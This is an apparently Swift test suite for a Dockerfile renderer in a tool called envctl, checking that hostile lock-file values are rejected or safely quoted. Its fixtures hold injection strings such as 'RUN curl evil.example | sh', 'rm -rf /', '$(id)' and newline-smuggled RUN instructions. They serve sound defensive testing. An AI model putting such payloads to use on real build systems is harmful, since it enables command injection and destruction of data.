import EnvctlModel
import EnvctlTemplates
import Foundation
import Testing

/// Hostile lock values must be rejected or quoted: never able to add a Dockerfile instruction or a
/// shell command. Each case edits the torch fixture one way.
@Suite struct InjectionTests {
    struct Case: CustomTestStringConvertible, Sendable {
        var label: String
        var edit: @Sendable (inout LockedEnvironment) -> Void
        var testDescription: String { label }
    }

    static let newlineRun = "x\nRUN curl evil.example | sh"

    /// Values that must be refused outright.
    static let rejected: [Case] = [
        Case(label: "package name with newline") { $0.pythonPackages.packages[0].name = newlineRun },
        Case(label: "package name with quote") { $0.pythonPackages.packages[0].name = "torch' ; rm -rf / ; echo '" },
        Case(label: "package version with shell") { $0.pythonPackages.packages[0].version = "1.0$(id)" },
        Case(label: "hash with newline") {
            $0.pythonPackages.packages[0].hashes = ["sha256:" + String(repeating: "a", count: 63) + "\n"]
        },
        Case(label: "hash not hex") {
            $0.pythonPackages.packages[0].hashes = ["sha256:" + String(repeating: "z", count: 64)]
        },
        Case(label: "index URL with quote") {
            $0.pythonPackages.packages[0].index = "https://x.example/simple\" evil=\"1"
        },
        Case(label: "index URL with newline") { $0.pythonPackages.packages[0].index = "https://x.example/\nRUN id" },
        Case(label: "apt package with newline") { $0.apt = ["git\nRUN id"] },
        Case(label: "apt package with shell") { $0.apt = ["git;id"] },
        Case(label: "apt option injection") { $0.apt = ["--allow-unauthenticated"] },
        Case(label: "env name with space") { $0.env = ["A B": "1"] },
        Case(label: "env name with equals") { $0.env = ["A=B": "1"] },
        Case(label: "env value with newline") { $0.env = ["A": "ok\nRUN id"] },
        Case(label: "env value with carriage return") { $0.env = ["A": "ok\rRUN id"] },
        Case(label: "env value with line separator") { $0.env = ["A": "ok\u{2028}RUN id"] },
        Case(label: "environment name with newline") { $0.name = "train\nRUN id" },
        Case(label: "environment name with space") { $0.name = "train me" },
        Case(label: "image reference with newline") { $0.images.base.reference = "docker.io/nvidia/cuda:12\nRUN id" },
        Case(label: "image reference with space") { $0.images.base.reference = "docker.io/nvidia/cuda:12 AS x" },
        Case(label: "image digest not a digest") { $0.images.builder.digest = "sha256:abc" },
        Case(label: "image digest with newline") {
            $0.images.builder.digest = "sha256:" + String(repeating: "a", count: 64) + "\nRUN id"
        },
        Case(label: "cuda version text") { $0.cuda = "12.4 && id" },
        Case(label: "python version text") { $0.python = "3.11\nRUN id" },
        Case(label: "os with newline") { $0.os = "ubuntu\nRUN id" },
        Case(label: "arch with shell") { $0.archs = ["sm_80;id"] },
        Case(label: "framework version") { $0.framework?.version = "2.5.1\nRUN id" },
        Case(label: "cuda libraries unknown") { $0.cudaLibraries = "both\nRUN id" },
        Case(label: "lock hash with newline") { $0.hash = "sha256:" + String(repeating: "a", count: 64) + "\n" },
    ]

    @Test(arguments: rejected)
    func rejects(_ c: Case) throws {
        var env = LockFixtures.torch
        c.edit(&env)
        let error = #expect(throws: TemplateError.self) {
            try DockerfileRenderer().render(env, inputs: LockFixtures.inputs)
        }
        #expect(error?.code == .unsafeValue || error?.code == .inconsistentLock)
        // The message shows the value escaped, so an invisible newline is visible to the user.
        #expect(error?.message.contains("\n") == false)
    }

    @Test func rejectsHostileRenderInputs() throws {
        var inputs = LockFixtures.inputs
        inputs.revision = "abc1234\nRUN id"
        #expect(throws: TemplateError.self) { try DockerfileRenderer().render(LockFixtures.torch, inputs: inputs) }
        inputs = LockFixtures.inputs
        inputs.source = "https://example.com/\" evil=\"1"
        #expect(throws: TemplateError.self) { try DockerfileRenderer().render(LockFixtures.torch, inputs: inputs) }
    }

    /// Free text that is legal is quoted so the Dockerfile parser reads back exactly the original.
    @Test(arguments: [
        "plain", "with space", "quote \" inside", "back\\slash", "dollar $HOME and ${PATH}", "single ' quote",
        "RUN rm -rf / # not an instruction", "unicode ✓ ü", "trailing backslash \\",
    ])
    func quotesEnvValues(_ value: String) throws {
        var env = LockFixtures.torch
        env.env = ["HOSTILE": value]
        let text = try DockerfileRenderer().render(env, inputs: LockFixtures.inputs)
        let lines = text.split(separator: "\n").filter { $0.hasPrefix("ENV HOSTILE=") }
        #expect(lines.count == 1)
        let word = String(lines[0].dropFirst("ENV HOSTILE=".count))
        #expect(Self.dockerfileUnquote(word) == value)
        // Compared with a benign value, exactly that one line changed: nothing was added or split.
        var benign = LockFixtures.torch
        benign.env = ["HOSTILE": "plain"]
        let baseline = try DockerfileRenderer().render(benign, inputs: LockFixtures.inputs)
        let a = baseline.split(separator: "\n", omittingEmptySubsequences: false)
        let b = text.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(a.count == b.count)
        #expect(zip(a, b).filter { $0 != $1 }.count <= 1)
    }

    /// The Dockerfile reading of a double-quoted word: `\x` is `x`, nothing else is special.
    static func dockerfileUnquote(_ word: String) -> String? {
        guard word.count >= 2, word.first == "\"", word.last == "\"" else { return nil }
        var out = ""
        var escaping = false
        for c in word.dropFirst().dropLast() {
            if escaping {
                out.append(c); escaping = false
            } else if c == "\\" {
                escaping = true
            } else if c == "\"" {
                return nil
            } else {
                out.append(c)
            }
        }
        return escaping ? nil : out
    }
}
